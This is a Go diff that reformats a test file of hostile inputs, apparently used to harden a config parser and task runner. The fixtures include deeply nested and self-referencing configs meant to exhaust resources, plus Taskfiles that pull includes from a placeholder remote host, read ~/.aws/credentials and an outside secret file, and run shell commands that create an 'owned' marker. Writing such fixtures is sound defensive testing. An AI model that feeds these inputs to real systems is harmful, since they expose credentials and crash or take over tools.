@@ -1,3 +1,5 @@
+//go:build unix
+
 package attack
 
 import (
@@ -31,8 +33,10 @@ var configBombs = map[string]string{
 		" }\n",
 	"nested conditionals": "locals { a = " + strings.Repeat("true ? ", 20000) + "1" + strings.Repeat(" : 2", 20000) +
 		" }\n",
-	"nested operators":      "locals { a = " + strings.Repeat("!", 60000) + "true }\n",
-	"nested for":            "locals {\n l = [1,2,3,4,5,6,7,8,9,10]\n a = [for a in local.l : [for b in local.l : [for c in local.l : [for d in local.l : [for e in local.l : [for f in local.l : [for g in local.l : [for h in local.l : h]]]]]]]]\n}\n",
+	"nested operators": "locals { a = " + strings.Repeat("!", 60000) + "true }\n",
+	"nested for": "locals {\n l = [1,2,3,4,5,6,7,8,9,10]\n a = [for a in local.l : [for b in local.l : " +
+		"[for c in local.l : [for d in local.l : [for e in local.l : [for f in local.l : [for g in local.l " +
+		": [for h in local.l : h]]]]]]]]\n}\n",
 	"locals in a circle":    "locals {\n a = local.b\n b = local.a\n}\n",
 	"doubling":              "locals {\n a0 = \"xxxxxxxxxxxxxxxx\"\n" + doubling() + "}\n",
 	"a heredoc without end": "locals { a = <<E\n" + strings.Repeat("x\n", 1000),
@@ -95,15 +99,18 @@ var taskBombs = map[string]string{
 	"nested lists": "version: '3'\nx: " + strings.Repeat("[", 50000) + strings.Repeat("]", 50000) + "\n",
 	"nested maps": "version: '3'\nx: " + strings.Repeat("{a: ", 20000) + "1" + strings.Repeat("}", 20000) +
 		"\n",
-	"an alias of itself":      "version: '3'\nx: &x [*x]\ntasks: {}\n",
-	"includes itself":         "version: '3'\nincludes:\n  me: ./Taskfile.yml\ntasks:\n  a: {desc: a, cmds: ['true']}\n",
-	"includes from a server":  "version: '3'\nincludes:\n  far: http://{CANARY}/Taskfile.yml\ntasks:\n  a: {desc: a, cmds: ['true']}\n",
-	"includes from git":       "version: '3'\nincludes:\n  far: https://{CANARY}/x.git//Taskfile.yml?ref=main\ntasks:\n  a: {desc: a, cmds: ['true']}\n",
-	"includes from outside":   "version: '3'\nincludes:\n  out: {OUT}/secret.txt\ntasks:\n  a: {desc: a, cmds: ['true']}\n",
-	"reads variables outside": "version: '3'\ndotenv: ['{HOME}/.aws/credentials', '{OUT}/secret.txt']\ntasks:\n  a: {desc: a, cmds: ['echo $aws $outside']}\n",
-	"runs a shell to list":    "version: '3'\nvars:\n  V: {sh: 'touch {OUT}/owned'}\ntasks:\n  a: {desc: '{{.V}}', cmds: ['true']}\n",
-	"works outside":           "version: '3'\ntasks:\n  a: {desc: a, dir: '{OUT}', cmds: ['touch owned; cat secret.txt >/dev/null; echo done']}\n",
-	"not YAML":                "\x00\x01\x02 ][",
+	"an alias of itself":     "version: '3'\nx: &x [*x]\ntasks: {}\n",
+	"includes itself":        "version: '3'\nincludes:\n  me: ./Taskfile.yml\ntasks:\n  a: {desc: a, cmds: ['true']}\n",
+	"includes from a server": "version: '3'\nincludes:\n  far: http://{CANARY}/Taskfile.yml\ntasks:\n  a: {desc: a, cmds: ['true']}\n",
+	"includes from git": "version: '3'\nincludes:\n  far: https://{CANARY}/x.git//Taskfile.yml?ref=main\n" +
+		"tasks:\n  a: {desc: a, cmds: ['true']}\n",
+	"includes from outside": "version: '3'\nincludes:\n  out: {OUT}/secret.txt\ntasks:\n  a: {desc: a, cmds: ['true']}\n",
+	"reads variables outside": "version: '3'\ndotenv: ['{HOME}/.aws/credentials', '{OUT}/secret.txt']\ntasks:\n" +
+		"  a: {desc: a, cmds: ['echo $aws $outside']}\n",
+	"runs a shell to list": "version: '3'\nvars:\n  V: {sh: 'touch {OUT}/owned'}\ntasks:\n  a: {desc: '{{.V}}', cmds: ['true']}\n",
+	"works outside": "version: '3'\ntasks:\n  a: {desc: a, dir: '{OUT}', cmds: ['touch owned; cat " +
+		"secret.txt >/dev/null; echo done']}\n",
+	"not YAML": "\x00\x01\x02 ][",
 }
 
 func laughter() string {
